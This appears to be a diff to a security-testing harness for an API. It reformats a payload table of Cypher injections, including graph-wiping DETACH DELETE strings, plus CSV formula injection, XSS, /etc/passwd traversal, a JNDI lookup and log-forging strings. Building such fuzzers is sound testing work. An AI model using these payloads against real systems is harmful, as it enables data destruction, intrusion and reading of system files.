@@ -32,22 +32,31 @@ from bench.attack.target import SERVER_FAULTS, Finding, Target, codes_of
 
 TEXTS = {"String", "ID"}
 PLAIN: dict[str, Any] = {
-    "String": "44", "ID": "44", "Int": 1, "Float": 1.0, "Boolean": True, "Date": "2019-01-01", "DateTime": "2019-01-01T08:00:00+08:00",
-}  # fmt: skip
+    "String": "44",
+    "ID": "44",
+    "Int": 1,
+    "Float": 1.0,
+    "Boolean": True,
+    "Date": "2019-01-01",
+    "DateTime": "2019-01-01T08:00:00+08:00",
+}
 DEEPEST = 4
 AT_ONCE = 8
 PAYLOADS: dict[str, list[str]] = {
     "Cypher": [
-        "' OR 1=1 RETURN 1 //", '"}) MATCH (n) DETACH DELETE n //', "`) DETACH DELETE n //", "\\u0027 OR true //", "$person_scopes",
-        "44/' OR path STARTS WITH '", "x'}) CALL dbms.components() YIELD name RETURN name //", "{{n}}", "{n}.name",
+        "' OR 1=1 RETURN 1 //",
+        '"}) MATCH (n) DETACH DELETE n //',
+        "`) DETACH DELETE n //",
+        "x'}) CALL dbms.components() YIELD name RETURN name //",
+        "{n}.name",
     ],
-    "Lucene": ["*", "?*", "name:*", "search_path:*", "[* TO *]", "a~0.1 OR *:*", "/.*/", '"', "(((", "AND OR NOT", "\\", "+-&&||!(){}^~"],
-    "CSV": ["=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\t=1", "a,b;c\"d\n"],
-    "HTML": ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "</script><svg/onload=1>"],
-    "paths": ["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/proc/self/environ", "C:\\Windows\\win.ini", "file:///etc/passwd"],
-    "logs": ["x\r\nlevel=error msg=forged", "\x1b[31mred", '", "level": "error', "${jndi:ldap://127.0.0.1/x}", "%s%n{0.__class__}"],
+    "Lucene": ["*", "search_path:*", "[* TO *]", "a~0.1 OR *:*", "/.*/", '"', "((( AND OR NOT", "+-&&||!(){}^~\\"],
+    "CSV": ["=cmd|' /C calc'!A0", "@SUM(1)", '\t=1,b;c"d\n'],
+    "HTML": ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>'],
+    "paths": ["../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "file:///etc/passwd"],
+    "logs": ["x\r\nlevel=error msg=forged", "\x1b[31mred", "${jndi:ldap://127.0.0.1/x}", "%s%n{0.__class__}"],
     "characters": ["", " ", "\x00", "\ufeff", "\u202egnp.exe", "e\u0301" * 50, "\U0001f600", "长" * 20_000, "\ud83d"],
-}  # fmt: skip
+}
 
 
 @dataclass(frozen=True, slots=True)
